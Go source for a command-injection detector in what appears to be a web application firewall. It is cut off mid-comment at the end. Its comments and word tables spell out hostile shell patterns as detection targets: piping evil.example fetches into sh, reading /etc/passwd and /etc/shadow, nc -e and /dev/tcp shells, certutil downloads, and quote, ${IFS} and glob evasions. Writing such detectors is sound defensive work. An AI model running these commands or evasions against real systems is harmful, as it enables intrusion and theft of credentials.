package detect

import (
	"slices"
	"strings"

	"github.com/rampartwaf/rampart/internal/request"
)

// CMDEXE: shell and Windows command injection.
//
// The detector looks for a command name in a command position: after a shell separator
// (; | || & && newline backtick, a literal "\n" written as text, "!" shell escapes, a
// terminal escape that moves the cursor up or erases so the command after it goes
// unseen: ESC[2A), inside a substitution ($( <( >( ), inside the string handed to a
// shell-exec function (system('...'), shell_exec("..."), popen(...)), or at the very
// start of the value.
// What counts depends on how much the word looks like a command and what follows it:
//
//   - strong commands (whoami, wget, netcat, powershell, iwr, certutil...) are enough
//     after a separator;
//   - bare-able commands (ls, id, pwd...) are enough after a separator when nothing or
//     another separator follows, so "; ls" and "|id|" match but "name|id=5" does not;
//   - every other listed command is also an English word (cat, time, more, find...) and
//     needs shell-like arguments: a flag (-la, /s for Windows commands), an absolute
//     path, a redirection, a variable; network tools also take a host, sleep a number;
//   - inside $(...), <(...) and >(...) any listed command counts;
//   - prefix commands (time, nohup, sudo, env...) hand the position to the next word;
//   - a shell (sh, bash...) that a pipe feeds ("x|sh") or that stands alone after a
//     separator runs whatever came before or comes next;
//   - after the first separator of a value that opens with a probe token (nothing, a
//     number, an IP address, a host name, one lower-case letter or digit:
//     "127.0.0.1|id", "1|ls", "x & ver", "8.8.8.8&net user"), the separator is a breakout
//     however it is spelt, glued or apart, and even if the rest reads as prose: a
//     bare-able command matches alone or with a short option word ("127.0.0.1;ps aux",
//     not "1&id=5"), recon words that are English too (set, ver, vol) alone, every
//     listed command with shell arguments (timeout /t 5, choice /t 5, certutil.exe
//     -decode), and echo with a marker ("127.0.0.1;echo q7x2k9"). A word before it
//     ("name|id", "Tom & Jerry") or a capital ("R&D", "A&W") is no probe token.
//
// A trailing comment ends a command as the value's end does ("127.0.0.1;id #",
// ";id//"); a ".exe" suffix names the same command (curl.exe).
//
// The start of a value has no breakout, so a whole command line there is judged by what
// it does, not by what it is: "ls -la", "tar -xzf site.tar.gz", "git status" or
// "ansible all -m ping" typed into a help-desk form are data. It matches only when the
// line is hostile by itself: a recon command alone (whoami, ifconfig, systeminfo), a
// hostile tool with shell arguments (wget -O, nc -e, certutil -urlcache, iwr), an
// interpreter running inline code (python -c, bash -c), a command on a system location
// (cat /etc/passwd, ls -l /root), a redirection into a script file (echo ... > x.php),
// Windows account and registry changes (net user, reg add HKLM\...), a binary by
// absolute path with arguments (or a recon binary alone: /usr/bin/id; "/bin/sh" alone
// is a path, as in a container's command array), a pipe into a shell (curl ... | bash),
// or a command word written with evasions. The same rule applies to every command of a
// value whose separators are the writer's own rather than a breakout: prose (a forum
// post or ticket with a sentence in it, markdown inline code), shebang scripts, and a
// value that is a command line from its first word ("cd /var/www && ls -la"). So a shell snippet quoted in a post passes
// while "\ncat /etc/passwd", "x; id" and "ls; cat /etc/shadow" do not.
//
// What tells a pasted command line from an injection is where the command stands: a
// value, a line of a post or the cells of a markdown table that open with it are the
// writer's own; a separator after a token of data is a breakout. So on the writer's own
// lines a published installer piped into a shell passes (curl or wget with options and
// one https URL on a named host, to standard output: the rustup, nvm, nodesource and
// Homebrew one-liners, also as bash -c "$(curl ...)"), and batch IF/FOR statements in a
// post or script are not flagged by themselves. An http URL, an address, an output
// file or an expansion in the fetch, or the same line after a breakout
// ("x;curl https://sh.rustup.rs | sh"), still matches. The installer passes because
// such a line runs only where the whole value is run (a webshell), which the rule for
// whole command lines gives up anyway, while install lines are pasted in tickets and
// docs daily. The price: a webshell run as "?cmd=ls -la", "?cmd=ansible-inventory
// --list" or "?cmd=curl https://evil.example/x|sh" is not flagged.
//
// A $(...) that is an argument of a command line with options passes only when it
// holds one read-only command printing a fact ("docker run -v $(pwd):/app", "--user
// $(id -u):$(id -g)", $(whoami), $(date +%F), $(uname -m), $(git rev-parse HEAD); see
// infoSubst); anything else in it counts as in any substitution, in double quotes too
// ("a -b $(wget -q https://evil.example/x.sh)", "-o $(sleep 10)", "-o $(id)").
// A markdown table row counts as one only in a table's shape: next to another row or
// a |---| line (no shell runs such lines), or alone with padded cells and no pipeline
// ("| id | name |"; not "|curl -fsSL https://x|sh|" nor "| curl https://x | sh |"),
// and no installer passes in its cells.
//
// Command words are read the way a shell reads them, so evasions fold away: quotes and
// backslashes inside a word (c'a't, who\ami, ""p""y""t""h""o""n, $'who'ami), empty expansions and
// substitutions ($@, $*, ${x}, $u, ``, $()), ${IFS} as a space, '+' as a space in values
// that have no spaces (URL-encoded payloads), globs on binary directories (/???/??t,
// /usr/[a-z]in/bash), brace expansion ({cat,/etc/passwd}) and version suffixes
// (python3.10, gcc10.1). A word assembled from variables ($c1$c2 after c1=c;...) or a
// variable used as the command name before arguments ($a -nlvp 555 after a=nc) matches.
//
// Constructs that are commands wherever they appear also match: /dev/tcp/ redirections,
// the Shellshock prefix "() {", fork bombs, ${IFS}, cmd /c and %COMSPEC% /c, PowerShell
// cmdlets that fetch or run code, Windows batch FOR/IF statements, options that make a
// program run a command (ssh -oProxyCommand=, git --upload-pack=, tar
// --checkpoint-action=exec=, c89 -wrapper sh,...), the command string of sh -c given
// alone ("-c id"), brace expansion of a timing probe ({sleep,5}), bash parameter
// expansion operators used for evasion (${PATH:0:1}, ${x#...}), and mail protocol
// commands injected after a line break (SMTP MAIL FROM:, RCPT TO:, AUTH with an
// initial response, POP3 RETR and LIST n, IMAP tagged commands).
//
// Deliberately not matched: filter expressions of REST query languages
// ("created_at<2024-01-01;id>100", "status==open;ps>2": a field compared to a value, not
// a command redirected into a file), listed words in prose ("cat food; dog food", "Tom & Jerry",
// "red;$5 each", "Java | Python", "net user growth"), field lists and pairs of data
// ("name|id", "sort=name|id", "1|true", "0;false", "R&D", "A&W"), markdown inline code (`ls -la`),
// jQuery $(...), make variables $(CC), template literals ${name} and defaults
// ${PORT:-8080}, JavaScript stack traces ("\n    at f (x.js:1:2)"), GraphQL selections,
// random tokens whose punctuation happens to spell a redirection (sensor data) and
// binary blobs (many control bytes), lone probe words as a whole value (ls, pwd, sleep 5,
// which curl), file names, and the tilde and history expansions (~+, !-1) that only
// CRS's most paranoid rules read as commands.

func init() { registerValue(CMDEXE, matchCMDEXE) }

// Command classes (bits of cmdTable's values).
const (
	cmdWeak    = 1 << iota // listed: needs shell-like arguments
	cmdBare                // enough alone after a separator
	cmdStrong              // enough after a separator, with or without arguments
	cmdAlone               // enough as the whole value ("whoami")
	cmdPrefix              // runs the word after it as a command
	cmdNet                 // a host, IP or URL argument is shell-like
	cmdNum                 // a numeric argument is shell-like (sleep 5)
	cmdInterp              // an interpreter: -c/-e/-r with code is strong
	cmdPipe                // enough alone after a pipe: "| sh"
	cmdHostile             // with shell-like arguments, hostile even at the start of a value
	cmdShell               // a shell: "x|sh", "&&(sh)"
	cmdWin                 // a Windows command: /x switches are its flags
	cmdProbe               // enough alone after a breakout from a probe token: "1|set", "x & ver"
)

var cmdTable = map[string]uint16{}

func init() {
	add := func(class uint16, words string) {
		for _, w := range strings.Fields(words) {
			cmdTable[w] |= class | cmdWeak
		}
	}
	// Unix commands that are English words too (or too short to trust alone).
	add(0, `alias apt apt-get aptitude ar arch at awk cat chgrp tac tail nslookup base32 base64
		basename bc bg break bzip2 c89 c99 cal cancel case cc cd chattr chmod chown chroot cksum
		clear cmp column comm command compress continue cp cpio crontab csplit cut date dd
		declare df diff dig dirname dmesg du echo ed egrep env eval ex exec exit expand export
		expr false fc fdisk fg fgrep file find flock fmt fold free ftp function gcc getent git
		grep groups gunzip gzip halt hash head help history host hostname htop iconv install
		ip jobs join kill last less let link ln locale locate logger login look ls lscpu lsof
		mail make man md5sum mkdir mkfifo mknod more mount mv nano nice nl node nohup od open
		paste patch perf pip pip3 pipx pkill popd pr printenv printf ps pushd pwd read
		readlink reboot rename renice return rev rm rmdir route rsync run scp screen script
		sed seq service set sftp sh sha1sum sha256sum shift shred shutdown sleep sort source
		split ssh stat strings su sum sync tac tail tar tee telnet test time timeout top touch
		tr trap true tty type ulimit umask unalias uname uniq unlink unset unzip uptime useradd
		users vi view vim w wait wall watch wc whereis which who whoami write xargs yes zip
		zcat`)
	// Windows commands.
	add(cmdWin, `assoc attrib bcdboot bcdedit call cacls copy del dir erase findstr forfiles
		icacls md move net netsh nltest qwinsta quser reg regedit ren rd sc schtasks start
		tasklist taskkill tracert ver vol where vssadmin wevtutil choice`)
	add(cmdBare, `ls id pwd dir ps uname whoami ifconfig ipconfig netstat hostname
		systeminfo sysinfo tasklist who env htop lscpu exit`)
	// Recon words that are English words or settings too (set, ver): enough alone only
	// right after a breakout from a probe token ("127.0.0.1|set", "x & ver").
	add(cmdProbe, `set ver vol`)
	add(cmdAlone, `whoami ifconfig ipconfig systeminfo sysinfo netstat uname`)
	add(cmdStrong, `whoami ifconfig ipconfig uname wget ncat netcat socat busybox powershell
		pwsh chmod chown nslookup netstat systeminfo sysinfo tasklist taskkill certutil
		bitsadmin regsvr32 rundll32 mshta wmic cscript wscript netsh schtasks useradd usermod
		adduser passwd killall pkill crontab strace ltrace gdb tftp xterm nmap ssh-keygen
		ssh-copy-id visudo cscli cpulimit lastlog lastlogin sudo mkfifo setsid iptables sysctl
		modprobe insmod msfvenom telnet irb tclsh xxd hexdump uuencode nohup rmt rmt-tar
		rmt-dump ansible ansible-config ansible-console ansible-doc ansible-galaxy
		ansible-inventory ansible-playbook ansible-pull ansible-vault chef-client chef-run
		chef-shell chef-solo chef-vault lwp-download lwp-request iwr iex irm iwmi gwmi icm
		saps regedit bcdedit vssadmin wevtutil cmstp msiexec installutil regasm regsvcs
		odbcconf .shell .system`)
	// Hostile with shell-like arguments wherever they stand, even as a whole value.
	add(cmdHostile, `whoami ifconfig ipconfig uname wget ncat netcat socat busybox powershell
		pwsh netstat systeminfo certutil bitsadmin regsvr32 rundll32 mshta wmic tftp xterm
		nmap msfvenom iwr iex irm iwmi gwmi icm saps vssadmin wevtutil cmstp lwp-download
		lwp-request`)
	// Shells and interpreters are English words or names too (bash, python, ruby): they
	// count alone only as the target of a pipe ("| sh").
	add(cmdPipe, `sh bash zsh ksh csh tcsh dash python python2 python3 perl ruby php lua
		node nc base64 cmd`)
	add(cmdShell, `sh bash zsh ksh csh tcsh dash`)
	add(cmdPrefix, `time nohup sudo strace ltrace nice timeout xargs exec command builtin
		env setsid stdbuf unbuffer chroot doas`)
	add(cmdNet, `ping nc ncat netcat nslookup dig host ftp tftp telnet ssh scp curl wget
		traceroute tracert socat nmap whois iwr irm`)
	add(cmdNum, `sleep timeout ping`)
	add(cmdInterp, `python python2 python3 perl ruby php node lua bash sh zsh ksh dash irb
		powershell pwsh`)
}

// binDirs are directories whose binaries are commands whatever their name.
var binDirs = []string{"/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/"}

// Strength of a command position.
const (
	posStart    = iota // start of the value (or of a line of prose), no separator
	posAttached        // a single & or | glued to a word: "a|b", "Q&A"
	posLoose           // a single & or | standing apart: "x & y", "x | y"
	posStrong          // ; && || newline backtick, or a separator opening the value
	posBreakout        // the first separator, after a probe token only: "127.0.0.1|id", "x & ver"
	posSubst           // inside $( <( >( or a shell-exec string: any listed command
)

// cmdScan holds what one value's scan knows about the value as a whole.
type cmdScan struct {
	v string
	// plus: the value has no spaces, so '+' separates words (a URL-encoded payload).
	plus bool
	// sepCap caps the strength of a separator: posStrong, or posStart in prose (a post
	// with code lines or markdown inline code), shebang scripts and values that are a
	// command line from their first word.
	sepCap int
	// braces: the value holds '{', so a lone word on its own line may be a GraphQL
	// field or a code block rather than a command.
	braces bool
	// assigns counts the searches for a variable assignment, which scan the value: a
	// value full of ";$a" must not cost one scan per separator.
	assigns int
	// cell: a cell of a markdown table is being judged, where no installer passes
	// (installerFetch): the '|' around it may be a pipe.
	cell bool
}

// Byte classes of the one pass over a value.
const (
	cbSpecial = 1 << iota // a byte some check starts from: separators, $ ( < > / - % { \ ! #
	cbSpace               // ' '
	cbBrace               // '{'
	cbLine                // newline or backtick
	cbSep                 // ; | & newline backtick: a separator
)

var cmdBytes = func() (t [256]uint8) {
	for _, c := range []byte(";|&`$\n\r(<>/-%{\\!#") {
		t[c] |= cbSpecial
	}
	t[' '] |= cbSpace
	t['{'] |= cbBrace
	t['\n'] |= cbLine
	t['`'] |= cbLine
	for _, c := range []byte(";|&\n\r`") {
		t[c] |= cbSep
	}
	return t
}()

func matchCMDEXE(_ *request.Param, v string) (string, bool) {
	if len(v) < 2 {
		return "", false
	}
	f, ok := cmdexe(v)
	if ok && (binaryish(v) || filterExpression(v)) {
		return "", false
	}
	return f, ok
}

// filterExpression reports whether v is a filter of REST query languages (RSQL/FIQL,
// and the like): comparisons joined by ';' or ',' such as
// "created_at<2024-01-01;id>100" or "status==open,age=ge=30", where ";id>100" is a field
// compared to a number, not the id command redirected into a file. Every comparison is
// a field name, an operator (== != < > <= >= =op= =) and a plain value: a number, a
// date, a word; no path, file name or shell character.
func filterExpression(v string) bool {
	parts := 0
	for len(v) > 0 {
		end := strings.IndexAny(v, ";,")
		seg := v
		if end >= 0 {
			seg, v = v[:end], v[end+1:]
			if v == "" {
				return false
			}
		} else {
			v = ""
		}
		if !filterComparison(seg) {
			return false
		}
		parts++
	}
	return parts >= 2
}

// filterComparison reports whether seg is one comparison of a filter expression.
func filterComparison(seg string) bool {
	i := 0
	for i < len(seg) && (isAlnum(seg[i]) || seg[i] == '_' || seg[i] == '.' && i > 0) {
		i++
	}
	if i == 0 || !isAlpha(seg[0]) && seg[0] != '_' || i == len(seg) {
		return false
	}
	// The operator.
	switch {
	case strings.HasPrefix(seg[i:], "==") || strings.HasPrefix(seg[i:], "!=") || strings.HasPrefix(seg[i:], "<=") || strings.HasPrefix(seg[i:], ">="):
		i += 2
	case seg[i] == '=' && i+1 < len(seg) && isAlpha(seg[i+1]):
		k := i + 1
		for k < len(seg) && isAlpha(seg[k]) {
			k++
		}
		if k < len(seg) && seg[k] == '=' {
			i = k + 1 // =gt=, =in=
		} else {
			i++
		}
	case seg[i] == '<' || seg[i] == '>' || seg[i] == '=':
		i++
	default:
		return false
	}
	val := seg[i:]
	if val == "" {
		return false
	}
	if strings.ContainsAny(seg[:i], "<>") {
		// reboot>x, sh<x: a command that acts, fed or written to a file; only a word
		// naming what a recon command prints (id, ps, who) may be a field compared
		if class := cmdTable[strings.ToLower(seg[:strings.IndexAny(seg, "<>=!")])]; class != 0 && class&cmdBare == 0 {
			return false
		}
	}
	for k := 0; k < len(val); k++ {
		if c := val[k]; !isAlnum(c) && c != '-' && c != '_' && c != ':' && c != '.' && c != '+' && c != '*' && c != '\'' && c != '"' {
			return false
		}
	}
	// "x.php", "out.txt": a file name, which a redirection writes.
	if dot := strings.LastIndexByte(val, '.'); dot >= 0 && dot+1 < len(val) && isAlpha(val[dot+1]) {
		return false
	}
	return true
}

func cmdexe(v string) (string, bool) {
	var seen uint8
	for i := 0; i < len(v); i++ {
		seen |= cmdBytes[v[i]]
	}
	s := cmdScan{v: v, sepCap: posStrong}
	s.plus = seen&cbSpace == 0
	s.braces = seen&cbBrace != 0
	script := len(v) > 3 && v[0] == '#' && v[1] == '!' && (v[2] == '/' || v[2] == ' ')
	tickCap := posStrong
	if script || seen&cbSep != 0 && proseText(v) {
		// A post or a script: its separators are the writer's own, not a breakout, and
		// its backticks quote code, so each command in it is judged like one opening the
		// value.
		s.sepCap, tickCap = posStart, posStart
	} else if seen&cbSep != 0 && s.commandLine() {
		// A whole command line: the same, but a `substitution` in it still runs code.
		s.sepCap = posStart
	}
	// Start of the value: a command without a separator.
	if !script {
		if f, ok := s.atStart(); ok {
			return f, true
		}
	}
	if len(v) > 3 && v[0] == '-' && v[1] == 'c' && v[2] == ' ' {
		// "-c id": the command string of the sh -c a value is handed to (utilCmdArgs)
		if f, ok := s.afterSep(0, 2, posStrong, false); ok {
			return f, true
		}
	}
	if seen&cbSpecial == 0 {
		// No separator: only a batch statement opening the value can be left.
		k := skipSpaces(v, 0)
		if hasPrefixFold(v[k:], "if") || hasPrefixFold(v[k:], "for") {
			return batchStatement(v)
		}
		return "", false
	}
	// The first separator after a probe token (127.0.0.1|, 1;, x &): a breakout
	// whatever its spelling, and no prose nor command line can have written it. One
	// that opens the value is a breakout unless the value reads as prose; a backtick
	// opening it is a code fence or inline code.
	breakout := -1
	if seen&cbSep != 0 && !script {
		if k := strings.IndexAny(v, ";|&\n\r`"); v[k] != '`' && probeToken(v[:k]) && (s.sepCap == posStrong || strings.TrimSpace(v[:k]) != "") {
			breakout = k
		}
	}
	rowEnd, row := -1, false // the end of the line last judged by tableRow, and its verdict
	for i := 0; i < len(v); i++ {
		switch c := v[i]; c {
		case ';', '|', '&', '\n', '\r', '`':
			if script {
				continue
			}
			j := i + 1
			for j < len(v) && (v[j] == c || v[j] == '|' || v[j] == '&' || v[j] == '\n' || v[j] == '\r') {
				j++
			}
			level := posStrong
			if (c == '&' || c == '|') && j-i == 1 {
				level = cmdSepLevel(v, i)
			}
			if c == '`' {
				level = min(level, tickCap)
			} else {
				level = min(level, s.sepCap)
			}
			pipe := c == '|' && j-i == 1
			cell := false
			if c == '|' {
				if i >= rowEnd {
					rowEnd, row = tableRow(v, i)
				}
				// "| id | name |": the cells of a table, each read as a value opens.
				cell = row
			}
			if cell {
				s.cell = true
				f, ok := s.afterSep(i, j, posStart, false)
				s.cell = false
				if ok {
					return f, true
				}
				i = j - 1
				continue
			}
			if i == breakout {
				level = posBreakout
			} else if pipe && level == posStart && s.installerFetch(cmdLineStart(v, i), i) {
				// "curl -sSf https://sh.rustup.rs | sh" pasted in a post or typed as a
				// whole command line: a published installer, not a shell fed by a breakout.
				pipe = false
			}
			if f, ok := s.afterSep(i, j, level, pipe); ok {
				return f, true
			}
			if c == '\n' || c == '\r' {
				if f, ok := mailCommand(v, j); ok {
					return f, true
				}
			}
			i = j - 1
		case '\\':
			// "\n" written as text: fuzzing lists and payloads meant for an echo -e.
			if j, ok := s.literalBreak(i); ok {
				if f, ok := s.afterSep(i, j, posStrong, false); ok {
					return f, true
				}
				i = j - 1
			}
		case 0x1b:
			// A terminal escape that moves the cursor up or erases (ESC[2A, ESC[K) hides
			// what follows from whoever reads the log or the terminal: a command right
			// after it was put there to run unseen.
			if j, ok := cursorEscape(v, i); ok {
				if f, ok := s.afterSep(i, j, posStrong, false); ok {
					return f, true
				}
				i = j - 1
			}
		case '!':
			// A shell escape of vi, less, ftp...: ":!cmd", "\!cmd", " !cmd".
			if i+1 < len(v) && isAlpha(v[i+1]) && (i == 0 || v[i-1] == ' ' || v[i-1] == '\\' || v[i-1] == ':') {
				if f, ok := s.afterSep(i, i+1, posLoose, false); ok {
					return f, true
				}
			}
		case '$', '<', '>':
			if i+1 < len(v) && v[i+1] == '(' && (c != '$' || !jqueryCall(v, i+2)) && !script {
				// docker run -v $(pwd):/app, --user $(id -u): a fact about the machine
				// that the writer's command line takes as an argument, and nothing
				// else. Bash's -c running a published installer is judged as a
				// command opening a value. Anything else in a substitution runs
				// wherever it stands, in double quotes too.
				arg := c == '$' && substArgument(v, i)
				if !arg || !infoSubst(v, i) {
					level := posSubst
					if arg && s.installerSubst(i) {
						level = posStart
					}
					if f, ok := s.afterSep(i, i+2, level, false); ok {
						return f, true
					}
				}
			}
			if c == '$' {
				if hasPrefixFold(v[i+1:], "ifs") && (i+4 == len(v) || !isIdent(v[i+4])) || hasPrefixFold(v[i+1:], "{ifs}") {
					return around(v, i, i+6), true
				}
				if f, ok := paramExpansion(v, i); ok {
					return f, true
				}
			}
		case '(':
			if f, ok := shellshock(v, i); ok {
				return f, true
			}
			if f, ok := forkBomb(v, i); ok {
				return f, true
			}
			if f, ok := s.execCall(i); ok {
				return f, true
			}
		case '{':
			if f, ok := s.braceCommand(i); ok {
				return f, true
			}
		case '/':
			if hasPrefixFold(v[i:], "/dev/tcp/") || hasPrefixFold(v[i:], "/dev/udp/") {
				return around(v, i, i+9), true
			}
		case '#':
			// A server-side include that runs a command: <!--#exec cmd="..." -->
			if i >= 4 && v[i-4:i] == "<!--" && hasPrefixFold(v[i:], "#exec") {
				return around(v, i-4, i+5), true
			}
		case '-':
			if f, ok := cmdOptionInjection(v, i); ok {
				return f, true
			}
		}
	}
	if f, ok := windowsCommand(v); ok {
		return f, true
	}
	if s.sepCap == posStart {
		// IF and FOR statements in a post's code block or a script are the writer's own;
		// the commands they run were judged above.
		return "", false
	}
	return batchStatement(v)
}

// probeToken reports whether t, what stands before a value's first separator, is the
// throwaway input an injection is appended to: nothing, a number, an IPv4 or IPv6
// address (with a port), a host name, or a single lower-case letter or digit, quotes
// around it dropped ("127.0.0.1", "1", "x", "example.com", "1'"). A word ("name|id",
// "Tom & Jerry", "sort=name|id") or a capital letter ("R&D", "A & W", "I & my team")
// is none.
func probeToken(t string) bool {
	t = strings.Trim(t, " \t'\"")
	if len(t) <= 1 {
		return t == "" || 'a' <= t[0] && t[0] <= 'z' || isDigit(t[0])
	}
	if len(t) > 64 {
		return false
	}
	digits, dots, colons, hex := 0, 0, 0, true
	label, alpha := 0, false // length of the current host label; whether it has a letter
	for i := 0; i < len(t); i++ {
		switch c := t[i]; {
		case isDigit(c):
			digits++
			label++
		case c == '.':
			if label == 0 {
				return false
			}
			dots++
			label, alpha = 0, false
		case c == ':':
			colons++
		case isAlpha(c) || c == '-':
			if !('a' <= c|0x20 && c|0x20 <= 'f') {
				hex = false
			}
			label++
			alpha = alpha || c != '-'
		default:
			return false
		}
	}
	switch {
	case colons >= 2 && hex:
		return true // ::1, fe80::1
	case digits == len(t)-dots-colons:
		return digits > 0 && label > 0 // 1, 127.0.0.1, 127.0.0.1:8080
	}
	return dots > 0 && label > 0 && alpha && colons <= 1 // example.com, host.local:80
}

// tableRow reports whether the line of v holding i is a row of a markdown table: it
// opens and closes with '|', has two cells or more, one cell at least is no listed
// command ("| id | name |", "|---|---|"; not "|id|ls|"), and it has a table's shape.
// That is another row or a |---| line right above or below it (no shell runs such a
// line: its closing '|' continues a pipeline that the next line's opening '|' breaks),
// or, for a row alone, cells padded with spaces and no pipeline in them: no two
// neighbouring cells that both open with a listed command, one of them with arguments
// or the second a shell or interpreter, and no shell or interpreter after a cell that
// opens with a listed command with arguments or a network tool. So "| id | name |" and a real table pass, while
// "|curl -fsSL https://x|sh|" and "| curl -fsSL https://x | sh |" are pipes. It
// returns the end of the line too.
func tableRow(v string, i int) (int, bool) {
	start := strings.LastIndexAny(v[:i], "\n\r") + 1
	end := len(v)
	if k := strings.IndexAny(v[i:], "\n\r"); k >= 0 {
		end = i + k
	}
	cells, ok := rowCells(v[start:end])
	if !ok {
		return end, false
	}
	data := false
	for _, c := range cells {
		c = strings.TrimSpace(c)
		if c == "" || strings.ContainsAny(c, ";&`$<>") {
			return end, false
		}
		var buf [24]byte
		if w, n := lowerWord(buf[:], c, 0, isCmdByte); n < len(c) || cmdTable[string(w)] == 0 {
			data = true
		}
	}
	if !data {
		return end, false
	}
	// Another row right above or below: a table.
	if start > 0 {
		e := start - 1
		if v[e] == '\n' && e > 0 && v[e-1] == '\r' {
			e--
		}
		if _, ok := rowCells(v[strings.LastIndexAny(v[:e], "\n\r")+1 : e]); ok {
			return end, true
		}
	}
	if end < len(v) {
		b := end + 1
		if v[end] == '\r' && b < len(v) && v[b] == '\n' {
			b++
		}
		e := len(v)
		if k := strings.IndexAny(v[b:], "\n\r"); k >= 0 {
			e = b + k
		}
		if _, ok := rowCells(v[b:e]); ok {
			return end, true
		}
	}
	// A row alone: padded cells, no pipeline.
	prev, prevArgs, feed := uint16(0), false, false
	for _, c := range cells {
		if len(c) < 3 || c[0] != ' ' && c[0] != '\t' || c[len(c)-1] != ' ' && c[len(c)-1] != '\t' {
			return end, false
		}
		c = strings.TrimSpace(c)
		var buf [24]byte
		w, n := lowerWord(buf[:], c, 0, isCmdByte)
		class := cmdTable[string(trimVersion(w))]
		args := n < len(c)
		switch {
		case prev != 0 && class != 0 && (prevArgs || args || class&(cmdPipe|cmdShell|cmdInterp) != 0):
			return end, false // "| cat x | nc host 4444 |", "| id | sh |"
		case feed && class&(cmdPipe|cmdShell|cmdInterp) != 0:
			return end, false // "| curl https://x | xz -d | sh |"
		}
		prev, prevArgs = class, args
		feed = feed || class != 0 && (args || class&cmdNet != 0)
	}
	return end, true
}

// rowCells splits a line shaped as a markdown table row, "|" cells "|" (two cells or
// more, blanks around it dropped), into its cells as written.
func rowCells(line string) ([]string, bool) {
	line = strings.TrimSpace(line)
	if len(line) < 4 || line[0] != '|' || line[len(line)-1] != '|' {
		return nil, false
	}
	cells := strings.Split(line[1:len(line)-1], "|")
	return cells, len(cells) >= 2
}

// proseText reports whether a value reads as prose: a run of three words of letters
// separated by single spaces somewhere in it ("to count lines"). Payloads that put a
// command after a separator are short and carry no such sentence.
func proseText(v string) bool {
	words, inWord, letters := 0, false, 0
	for i := 0; i < len(v); i++ {
		c := v[i]
		switch {
		case isAlpha(c) || c >= 0x80:
			if !inWord {
				inWord, letters = true, 0
			}
			letters++
		case c == ' ' && inWord:
			inWord = false
			if letters >= 2 {
				words++
				if words >= 3 {
					return true
				}
			} else if letters == 0 {
				words = 0
			}
		case (c == ',' || c == '.' || c == ':') && inWord && i+1 < len(v) && v[i+1] == ' ':
			// "Hi, I ran", "done. Then", "To fix it: run": punctuation that prose carries.
		default:
			inWord, words = false, 0
		}
	}
	return inWord && letters >= 2 && words >= 2
}

// cmdSepLevel grades the single & or | at i: one that opens the value or stands apart
// from words (after a space, quote or bracket) is loose, as injected separators are; "a|b"
// and "Q&A" keep it attached to a word.
func cmdSepLevel(v string, i int) int {
	k := i - 1
	for k >= 0 && (v[k] == ' ' || v[k] == '\t' || v[k] == '\'' || v[k] == '"') {
		k--
	}
	if k < 0 {
		return posStrong
	}
	if k < i-1 || !isAlnum(v[k]) {
		return posLoose
	}
	return posAttached
}

// literalBreak reports a "\n" or "\r" written as two characters at v[i] that stands
// where a separator can: at the start, after a space, quote or separator, or after
// another such escape. "C:\new" is a path. It returns the index after the run of them.
func (s *cmdScan) literalBreak(i int) (int, bool) {
	v := s.v
	if i+1 >= len(v) || v[i+1] != 'n' && v[i+1] != 'r' {
		return 0, false
	}
	if i > 0 {
		switch p := v[i-1]; {
		case p == ' ' || p == '\'' || p == '"' || p == ';' || p == '|' || p == '&' || p == '`':
		case i >= 2 && v[i-2] == '\\' && (p == 'n' || p == 'r'):
		default:
			return 0, false
		}
	}
	j := i
	for j+1 < len(v) && v[j] == '\\' && (v[j+1] == 'n' || v[j+1] == 'r') {
		j += 2
	}
	return j, true
}

// cursorEscape reports an ANSI control sequence at v[i] that moves the cursor or erases
// (ESC [ n A..H, J, K) and returns the index after it; colours (ESC[31m) are not one.
func cursorEscape(v string, i int) (int, bool) {
	j := i + 1
	if j >= len(v) || v[j] != '[' {
		return 0, false
	}
	j++
	for j < len(v) && j-i < 12 && (isDigit(v[j]) || v[j] == ';') {
		j++
	}
	if j < len(v) && (v[j] >= 'A' && v[j] <= 'H' || v[j] == 'J' || v[j] == 'K') {
		return j + 1, true
	}
	return 0, false
}

// unitWord reports whether the blanks at v[j] (on one line) lead to a word that is not
// a command: the unit or object of a number in prose (8 hours, 3 times, 5 km).
func unitWord(v string, j int) bool {
	for j < len(v) && (v[j] == ' ' || v[j] == '\t') {
		j++
	}
	if j == len(v) || !isAlpha(v[j]) {
		return false
	}
	var buf [24]byte
	w, _ := lowerWord(buf[:], v, j, isCmdByte)
	return cmdTable[string(w)] == 0
}

// jqueryCall reports whether the "$(" ending at i is jQuery rather than a command
// substitution: $("#id"), $('.c'), $(this), $(document), $(window).
func jqueryCall(v string, i int) bool {
	if i >= len(v) {
		return false
	}
	switch v[i] {
	case '"', '\'', '#', '.', '[':
		return true
	}
	return hasPrefixFold(v[i:], "this)") || hasPrefixFold(v[i:], "document)") || hasPrefixFold(v[i:], "window)") || hasPrefixFold(v[i:], "function")
}

// commandLine reports whether the value opens with a listed command written plainly
// ("cd /var/www && ls -la", "grep -r x . | wc -l"): the whole value is a command line.
func (s *cmdScan) commandLine() bool {
	v := s.v
	i := 0
	for i < len(v) && (v[i] == ' ' || v[i] == '\t') {
		i++ // not a line break: "\nid" opens with a separator
	}
	if i >= len(v) || !isAlpha(v[i]) {
		return false
	}
	var buf [40]byte
	w := s.readCmdWord(buf[:], i)
	if w.obf || w.exp || len(w.word) == 0 {
		return false
	}
	if cmdTable[string(w.word)] == 0 && cmdTable[string(trimVersion(w.word))] == 0 {
		return false
	}
	// the word must be followed by a space or end: "ls;id" is an injection probe
	return w.end == len(v) || isSpace(v[w.end])
}

// atStart checks the first word of the value as a command without a separator.
func (s *cmdScan) atStart() (string, bool) {
	v := s.v
	i := 0
	for i < len(v) && (isSpace(v[i]) || v[i] == '\'' || v[i] == '"') {
		i++
	}
	if i >= len(v) || !(isAlpha(v[i]) || v[i] == '/' || v[i] == '$' || v[i] == '\\' && i+1 < len(v) && isAlpha(v[i+1])) {
		return "", false
	}
	return s.cmdAt(i, posStart, false, 0)
}

// afterSep checks the command position after the separator v[i:j].
func (s *cmdScan) afterSep(i, j, level int, pipe bool) (string, bool) {
	v := s.v
	k := j
	for k < len(v) && (isSpace(v[k]) || v[k] == '{' || v[k] == '(' || v[k] == '!' || v[k] == '@') {
		k++
	}
	if f, ok := s.cmdAt(k, level, pipe, 0); ok {
		return around(v, i, k+len(f)), true
	}
	return "", false
}

// cmdWord is a command word as a shell reads it.
type cmdWord struct {
	word    []byte // lower-cased, evasions dropped
	end     int    // index after the word in the value
	binPath bool   // an absolute path into a binary directory (or bin/x)
	obf     bool   // quotes, backslashes or expansions hid inside the word
	exp     bool   // the word is made of expansions only ($a, ${x}$y)
	expName string // the name of the first expansion of an expansion-only word
}

// cmdAt judges the word at v[i:] as a command in a position of the given level. pipe
